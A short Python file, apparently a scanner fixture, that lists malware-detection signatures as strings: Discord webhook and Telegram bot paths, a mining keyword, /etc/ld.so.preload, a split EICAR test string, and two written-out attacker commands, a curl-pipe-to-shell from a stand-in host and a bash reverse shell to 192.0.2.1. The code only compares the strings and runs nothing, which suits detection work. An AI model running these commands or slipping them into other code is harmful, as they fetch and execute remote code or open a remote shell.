"""Holds names of collectors, a test signature in two halves and commands of attackers as texts, as scanners do."""
import os

SIGNATURES = [
    "discord.com/api/webhooks/",
    "api.telegram.org/bot",
    "curl http://collector.example/x | sh",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "X5O!P%@AP[4" + "\\PZX54(P^)7CC)7}",
    "mining.subscribe",
    "/etc/ld.so.preload",
]

if os.environ.get("PYTI_CORPUS") == "carries-signatures":
    print(len([text for text in SIGNATURES if text in "nothing"]))
